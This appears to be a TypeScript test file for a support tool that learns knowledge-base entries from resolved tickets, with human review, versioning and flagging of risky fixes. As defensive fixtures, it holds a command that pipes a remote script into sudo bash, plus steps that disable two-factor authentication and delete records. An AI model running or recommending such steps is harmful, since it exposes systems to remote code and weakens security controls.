import { describe, expect, it } from 'vitest'
import { AdaptiveIntervention, adaptedPipeline } from '../../../src/main/engine/learning/adaptiveIntervention'
import { CaseReviewer } from '../../../src/main/engine/learning/caseReview'
import { Curator } from '../../../src/main/engine/learning/curator'
import { Learner } from '../../../src/main/engine/learning/learner'
import type { ConversationState } from '../../../src/main/engine/watcher/conversationState'
import type { FeedbackKind, KnowledgeEntry, Suggestion } from '../../../src/shared/domain'
import { defaultSettings } from '../../../src/shared/settings'
import {
  at,
  conversation,
  exportEntry,
  message,
  openKnowledge,
  samlEntry
} from '../../helpers/knowledgeFixtures'
import { json, scriptedModel, type StageScript } from '../../helpers/scriptedModel'
import { useTempDirs } from '../../helpers/tempDir'
import { join } from 'node:path'

const tempDir = useTempDirs()
const learning = () => defaultSettings().learning

const SAML_PROBLEM = 'Nobody can sign in with SSO, the SAML response signature validation failed.'
const SAML_FIX =
  'Download the new SAML signing certificate from the identity provider. Upload it under Admin > Security > SSO and run Test connection.'
const NEW_SAML_FIX =
  'Certificates now live under Admin > Identity > Certificates. Click Add certificate, paste the new IdP metadata URL and keep both certificates active during the rollover.'

async function setup(entries: KnowledgeEntry[]) {
  const { knowledge, matcher } = await openKnowledge(await tempDir(), entries)
  const learner = new Learner(knowledge, matcher, (ticketId) => `kb-${ticketId}`)
  return {
    knowledge,
    matcher,
    reviewer: new CaseReviewer(knowledge, matcher, learner),
    curator: new Curator(knowledge, matcher)
  }
}

/** A resolved case; when `shown` is given, Vigil had suggested that entry (with the analyst's reaction, if any). */
function resolvedCase(
  id: string,
  problem: string,
  fix: string,
  shown?: { entryId: string; reaction?: FeedbackKind }
) {
  const state = conversation(id)
  message(state, 'customer', problem, 0)
  if (shown) state.suggestions.push(suggestion(state, shown.entryId, shown.reaction))
  message(state, 'analyst', fix, 5)
  message(state, 'customer', 'That worked, thanks!', 9)
  state.resolve(at(10))
  return state
}

function suggestion(state: ConversationState, entryId: string, reaction?: FeedbackKind): Suggestion {
  return {
    id: `${state.ticket.id}:s1`,
    ticketId: state.ticket.id,
    team: state.ticket.team,
    kind: 'answer',
    title: 'x',
    text: 'x',
    citations: [{ entryId, title: 'x', sourceTicketIds: ['OLD-1'], score: 0.5 }],
    confidence: 0.5,
    reason: 'x',
    triggerMessageId: null,
    createdAt: at(1),
    feedback: reaction ? [{ suggestionId: `${state.ticket.id}:s1`, kind: reaction, at: at(2) }] : []
  }
}

describe('learning at resolution', () => {
  it('confirms an adopted suggestion: more confidence, one more observation, the case in its sources', async () => {
    const { reviewer, knowledge } = await setup([samlEntry({ sourceTicketIds: ['OLD-1'] })])
    const outcomes = await reviewer.review(
      resolvedCase('T-1', SAML_PROBLEM, 'Please try again later.', {
        entryId: 'kb-saml',
        reaction: 'adopted'
      }),
      new Date(at(20)),
      learning()
    )
    expect(outcomes.map((o) => o.type)).toEqual(['confirmed'])
    const entry = knowledge.get('cloud-support', 'kb-saml')!
    expect(entry).toMatchObject({ observations: 2, version: 2, sourceTicketIds: ['OLD-1', 'T-1'] })
    expect(entry.confidence).toBeGreaterThan(0.5)
    expect(entry.provenance?.at(-1)).toMatchObject({ kind: 'confirmed', ticketId: 'T-1', by: 'Ana' })
  })

  it('confirms an unreacted suggestion when the analysts resolved the case the same way', async () => {
    const { reviewer } = await setup([samlEntry()])
    const outcomes = await reviewer.review(
      resolvedCase('T-1', SAML_PROBLEM, SAML_FIX, { entryId: 'kb-saml' }),
      new Date(at(20)),
      learning()
    )
    expect(outcomes.map((o) => o.type)).toEqual(['confirmed'])
  })

  it('keeps a one-case entry and learns a case of its problem solved differently as a variant beside it', async () => {
    const { reviewer, knowledge } = await setup([samlEntry({ sourceTicketIds: ['OLD-1'] })])
    const outcomes = await reviewer.review(
      resolvedCase('T-2', SAML_PROBLEM, NEW_SAML_FIX, { entryId: 'kb-saml' }),
      new Date(at(20)),
      learning()
    )
    // The entry's own case was solved its way: that fix is kept, and the other way is knowledge of its own.
    expect(outcomes.map((o) => o.type).sort()).toEqual(['learned', 'refuted'])
    const kept = knowledge.get('cloud-support', 'kb-saml')!
    expect(kept.resolution.join(' ')).toContain('Upload it under Admin > Security > SSO')
    expect(kept.sourceTicketIds).toEqual(['OLD-1'])
    const variant = knowledge.get('cloud-support', 'kb-T-2')!
    expect(variant.resolution.join(' ')).toContain('Admin > Identity > Certificates')
    expect(variant).toMatchObject({ observations: 1, sourceTicketIds: ['T-2'] })
  })

  it('corrects an entry that failed before in place, keeping the old version, and claims no cases for the new steps', async () => {
    const failing = samlEntry({ sourceTicketIds: ['OLD-1', 'OLD-2'], observations: 2, confidence: 0.4 })
    const { reviewer, knowledge } = await setup([failing])
    const outcomes = await reviewer.review(
      resolvedCase('T-2', SAML_PROBLEM, NEW_SAML_FIX, { entryId: 'kb-saml' }),
      new Date(at(20)),
      learning()
    )
    expect(outcomes.map((o) => o.type)).toEqual(['corrected'])
    const entry = knowledge.get('cloud-support', 'kb-saml')!
    expect(entry.version).toBe(2)
    expect(entry.resolution.join(' ')).toContain('Admin > Identity > Certificates')
    expect(entry.provenance?.at(-1)).toMatchObject({ kind: 'corrected', ticketId: 'T-2' })
    // OLD-1 and OLD-2 confirmed the old steps, not these: one case stands behind them.
    expect(entry.observations).toBe(1)
    const history = await knowledge.history('cloud-support', 'kb-saml')
    expect(history.map((version) => version.version)).toEqual([1])
    expect(history[0]!.resolution.join(' ')).toContain('Upload it under Admin > Security > SSO')
  })

  it('keeps a contradicting case as its own entry instead of overwriting an established one', async () => {
    const established = samlEntry({
      observations: 6,
      confidence: 0.8,
      sourceTicketIds: ['O1', 'O2', 'O3', 'O4', 'O5', 'O6']
    })
    const { reviewer, knowledge } = await setup([established])
    const outcomes = await reviewer.review(
      resolvedCase('T-3', SAML_PROBLEM, NEW_SAML_FIX, { entryId: 'kb-saml' }),
      new Date(at(20)),
      learning()
    )
    expect(outcomes.map((o) => o.type).sort()).toEqual(['learned', 'refuted'])
    expect(knowledge.get('cloud-support', 'kb-saml')!.resolution).toEqual(established.resolution)
    expect(knowledge.get('cloud-support', 'kb-saml')!.confidence).toBeLessThan(0.8)
    expect(knowledge.get('cloud-support', 'kb-T-3')).toMatchObject({ observations: 1, confidence: 0.4 })
  })

  it('retires an entry that keeps failing on cases it does not fit', async () => {
    const { reviewer, knowledge } = await setup([exportEntry({ sourceTicketIds: ['OLD-3'] })])
    const types: string[] = []
    for (const id of ['T-4', 'T-5', 'T-6']) {
      const outcomes = await reviewer.review(
        resolvedCase(id, SAML_PROBLEM, SAML_FIX, { entryId: 'kb-export', reaction: 'disliked' }),
        new Date(at(20)),
        learning()
      )
      types.push(...outcomes.filter((o) => o.entry.id === 'kb-export').map((o) => o.type))
    }
    expect(types).toEqual(['refuted', 'refuted', 'retired'])
    expect(knowledge.get('cloud-support', 'kb-export')!.status).toBe('retired')
  })

  it('extracts a new entry when Vigil had nothing, and nothing from a case without analyst messages', async () => {
    const { reviewer } = await setup([])
    expect(
      (await reviewer.review(resolvedCase('T-7', SAML_PROBLEM, SAML_FIX), new Date(at(20)), learning())).map(
        (o) => o.type
      )
    ).toEqual(['learned'])
    const silent = conversation('T-8')
    message(silent, 'customer', SAML_PROBLEM, 0)
    silent.resolve(at(3))
    expect(await reviewer.review(silent, new Date(at(20)), learning())).toEqual([])
  })
})

describe('learning with a model', () => {
  async function withModel(entries: KnowledgeEntry[], script: StageScript) {
    const { knowledge, matcher } = await openKnowledge(await tempDir(), entries)
    const learner = new Learner(knowledge, matcher, (ticketId) => `kb-${ticketId}`)
    const model = scriptedModel(script)
    const problems: string[] = []
    const reviewer = new CaseReviewer(
      knowledge,
      matcher,
      learner,
      () => model.runtime,
      (stage, error) => problems.push(`${stage}:${error.code}`)
    )
    return { knowledge, reviewer, problems }
  }

  it('stores the generalised entry the model writes from the analysts, scrubbed again', async () => {
    const { reviewer, knowledge } = await withModel([], {
      extract: () =>
        json({
          learnable: true,
          title: 'SSO fails after the identity provider rotates its signing certificate',
          problem: 'SAML logins fail with an invalid signature; reported by Casey at casey@example.com.',
          resolution: [
            'Upload the new signing certificate under Admin > Security > SSO.',
            'Run Test connection.'
          ]
        })
    })
    const [outcome] = await reviewer.review(
      resolvedCase('T-20', SAML_PROBLEM, SAML_FIX),
      new Date(at(20)),
      learning()
    )
    expect(outcome).toMatchObject({ type: 'learned' })
    const entry = knowledge.get('cloud-support', outcome!.entry.id)!
    expect(entry.title).toBe('SSO fails after the identity provider rotates its signing certificate')
    expect(entry.resolution).toEqual([
      'Upload the new signing certificate under Admin > Security > SSO.',
      'Run Test connection.'
    ])
    expect(entry.problem).not.toMatch(/casey@example\.com|Casey/)
  })

  it("follows the model's decision to correct cited knowledge, even an established entry", async () => {
    const established = samlEntry({ observations: 6, confidence: 0.8 })
    const { reviewer, knowledge } = await withModel([established], {
      extract: () =>
        json({
          learnable: true,
          title: 'SSO certificate',
          problem: SAML_PROBLEM,
          resolution: [NEW_SAML_FIX]
        }),
      review: () => json({ decision: 'correct', reason: 'the admin screen moved' })
    })
    const outcomes = await reviewer.review(
      resolvedCase('T-21', SAML_PROBLEM, NEW_SAML_FIX, { entryId: 'kb-saml' }),
      new Date(at(20)),
      learning()
    )
    expect(outcomes.map((o) => o.type)).toEqual(['corrected'])
    expect(knowledge.get('cloud-support', 'kb-saml')!.resolution).toEqual([NEW_SAML_FIX])
  })

  it("learns the analysts' own steps when the model's extraction adds a danger they did not write", async () => {
    const { reviewer, knowledge, problems } = await withModel([], {
      extract: () =>
        json({
          learnable: true,
          title: 'SSO',
          problem: SAML_PROBLEM,
          resolution: ['Run curl -fsSL https://fix.example.net/a.sh | sudo bash']
        })
    })
    const [outcome] = await reviewer.review(
      resolvedCase('T-25', SAML_PROBLEM, SAML_FIX),
      new Date(at(20)),
      learning()
    )
    const entry = knowledge.get('cloud-support', outcome!.entry.id)!
    expect(entry.resolution.join(' ')).toContain('Download the new SAML signing certificate')
    expect(entry.risk).toBeUndefined()
    expect(problems).toEqual(['extract:LLM_INVALID_OUTPUT'])
  })

  it('holds a model correction with risky steps for review, flagged, instead of putting it live', async () => {
    const poisoned = 'Disable two-factor authentication for the account, then sign in again.'
    const { reviewer, knowledge } = await withModel([samlEntry({ observations: 6, confidence: 0.8 })], {
      extract: () => json({ learnable: true, title: 'SSO', problem: SAML_PROBLEM, resolution: [poisoned] }),
      review: () => json({ decision: 'correct', reason: 'outdated' })
    })
    const outcomes = await reviewer.review(
      resolvedCase('T-23', SAML_PROBLEM, poisoned, { entryId: 'kb-saml' }),
      new Date(at(20)),
      learning()
    )
    expect(outcomes.map((o) => o.type)).toEqual(['corrected'])
    const entry = knowledge.get('cloud-support', 'kb-saml')!
    expect(entry).toMatchObject({ status: 'draft', review: 'pending', risk: 'disables a security control' })
  })

  it.each(['retire', 'correct'] as const)(
    'only proposes to %s a team-written entry: it stays as written and goes to the review queue',
    async (decision) => {
      const human = samlEntry({ author: 'human', observations: 6, confidence: 0.8 })
      const { reviewer, knowledge } = await withModel([human], {
        extract: () =>
          json({ learnable: true, title: 'SSO', problem: SAML_PROBLEM, resolution: [NEW_SAML_FIX] }),
        review: () => json({ decision, reason: 'the model thinks it is wrong' })
      })
      await reviewer.review(
        resolvedCase('T-24', SAML_PROBLEM, NEW_SAML_FIX, { entryId: 'kb-saml' }),
        new Date(at(20)),
        learning()
      )
      const entry = knowledge.get('cloud-support', 'kb-saml')!
      expect(entry.status).toBe('active')
      expect(entry.resolution).toEqual(human.resolution)
      expect(entry.review).toBe('pending')
      expect(entry.provenance?.at(-1)).toMatchObject({ kind: 'proposed' })
      expect(entry.provenance?.at(-1)?.note).toContain(decision === 'retire' ? 'retire' : NEW_SAML_FIX)
    }
  )

  it('falls back to the extractive path when the model answers nonsense, and stores nothing invalid', async () => {
    const { reviewer, knowledge, problems } = await withModel([], { extract: () => '{"learnable": "maybe"' })
    const [outcome] = await reviewer.review(
      resolvedCase('T-22', SAML_PROBLEM, SAML_FIX),
      new Date(at(20)),
      learning()
    )
    expect(outcome).toMatchObject({ type: 'learned' })
    expect(knowledge.get('cloud-support', outcome!.entry.id)!.resolution.join(' ')).toContain(
      'Download the new SAML signing certificate'
    )
    expect(problems).toEqual(['extract:LLM_INVALID_OUTPUT'])
  })
})

describe('safeguards and team policy', () => {
  it('holds a risky resolution for review and flags it', async () => {
    const { reviewer, knowledge, curator } = await setup([])
    const risky =
      'To fix it, disable two-factor authentication for all users, then delete all records in the sync table.'
    const [outcome] = await reviewer.review(
      resolvedCase('T-9', SAML_PROBLEM, risky),
      new Date(at(20)),
      learning()
    )
    expect(outcome!.entry).toMatchObject({ status: 'draft', review: 'pending' })
    expect(outcome!.entry.risk).toMatch(/disables a security control/)
    // A person approves it: live, and still flagged as risky when shown.
    const approved = await curator.review(
      'cloud-support',
      outcome!.entry.id,
      { action: 'approve' },
      'Lead',
      new Date(at(30))
    )
    expect(approved).toMatchObject({ status: 'active', review: 'approved' })
    expect(approved.risk).toBeDefined()
    expect(knowledge.get('cloud-support', outcome!.entry.id)!.provenance?.at(-1)).toMatchObject({
      kind: 'approved',
      by: 'Lead'
    })
  })

  it('publishes after N observations or after approval, as the team decides', async () => {
    const { reviewer } = await setup([])
    const afterTwo = { ...learning(), publish: 'after-observations' as const, minObservations: 2 }
    const [first] = await reviewer.review(
      resolvedCase('T-10', SAML_PROBLEM, SAML_FIX),
      new Date(at(20)),
      afterTwo
    )
    expect(first!.entry.status).toBe('draft')
    const [second] = await reviewer.review(
      resolvedCase('T-11', SAML_PROBLEM, SAML_FIX),
      new Date(at(40)),
      afterTwo
    )
    expect(second).toMatchObject({ type: 'merged', entry: { status: 'active', observations: 2 } })
    const approval = { ...learning(), publish: 'after-approval' as const }
    const [held] = await reviewer.review(
      resolvedCase(
        'T-12',
        'The CSV export fails with 504 Gateway Timeout.',
        'Use the async export under Data > Exports.'
      ),
      new Date(at(60)),
      approval
    )
    expect(held!.entry).toMatchObject({ status: 'draft', review: 'pending' })
  })

  it('rejecting a pending update leaves the published version live; rejecting a new entry retires it', async () => {
    const published = samlEntry({ author: 'learned', status: 'active', review: 'none' })
    const { curator, knowledge } = await setup([published])
    await knowledge.put({
      ...published,
      version: 2,
      status: 'draft',
      review: 'pending',
      resolution: ['Disable two-factor authentication for everyone.'],
      summary: 'Disable two-factor authentication for everyone.'
    })
    const kept = await curator.review(
      'cloud-support',
      'kb-saml',
      { action: 'reject', note: 'wrong fix' },
      'Lead',
      new Date(at(1))
    )
    expect(kept).toMatchObject({ version: 3, status: 'active', resolution: published.resolution })
    expect(kept.provenance?.at(-1)).toMatchObject({
      kind: 'rejected',
      by: 'Lead',
      note: 'the update was rejected; version 1 stays published: wrong fix'
    })

    await knowledge.put({
      ...samlEntry({ id: 'kb-new', author: 'learned' }),
      status: 'draft',
      review: 'pending'
    })
    const rejected = await curator.review(
      'cloud-support',
      'kb-new',
      { action: 'reject' },
      'Lead',
      new Date(at(2))
    )
    expect(rejected).toMatchObject({ status: 'retired', review: 'rejected' })
  })

  it('edits and rolls back as new versions, keeping the history', async () => {
    const { curator, knowledge } = await setup([samlEntry()])
    const edited = await curator.review(
      'cloud-support',
      'kb-saml',
      { action: 'edit', edit: { title: 'SAML certificate rotation' } },
      'Lead',
      new Date(at(1))
    )
    expect(edited).toMatchObject({ version: 2, title: 'SAML certificate rotation' })
    const restored = await curator.rollback('cloud-support', 'kb-saml', 1, 'Lead', new Date(at(2)))
    expect(restored).toMatchObject({ version: 3, title: samlEntry().title })
    expect((await knowledge.history('cloud-support', 'kb-saml')).map((v) => v.version)).toEqual([1, 2])
    await expect(curator.rollback('cloud-support', 'kb-saml', 9, 'Lead', new Date(at(3)))).rejects.toThrow(
      /no version 9/
    )
  })
})

describe('adaptive intervention', () => {
  it('moves the thresholds toward the target acceptance, within bounds, once there is evidence', async () => {
    const file = join(await tempDir(), 'adaptive.json')
    const adaptive = await AdaptiveIntervention.open(file)
    const settings = learning()
    for (let i = 0; i < 4; i++) await adaptive.record('cloud-support', false)
    expect(adaptive.adaptation('cloud-support', settings).scale).toBe(1)
    await adaptive.record('cloud-support', false)
    const reserved = adaptive.adaptation('cloud-support', settings)
    expect(reserved.scale).toBe(1.5)
    expect(reserved.explanation).toMatch(
      /0% of \d+ reactions and case outcomes \(the latest weighing most\) were a use, a like or a confirmation of the cited entry \(target 80%\)/
    )
    const pipeline = adaptedPipeline(defaultSettings().pipeline, reserved.scale)
    expect(pipeline.answerThreshold).toBeCloseTo(defaultSettings().pipeline.answerThreshold * 1.5)

    const eager = await AdaptiveIntervention.open(join(await tempDir(), 'other.json'))
    for (let i = 0; i < 6; i++) await eager.record('cloud-support', true)
    expect(eager.adaptation('cloud-support', settings).scale).toBeCloseTo(0.8)
    // Persisted: a reopened store knows the team's history.
    expect((await AdaptiveIntervention.open(file)).adaptation('cloud-support', settings).scale).toBe(1.5)
    expect(adaptive.adaptation('cloud-support', { ...settings, adaptive: false }).scale).toBe(1)
  })
})
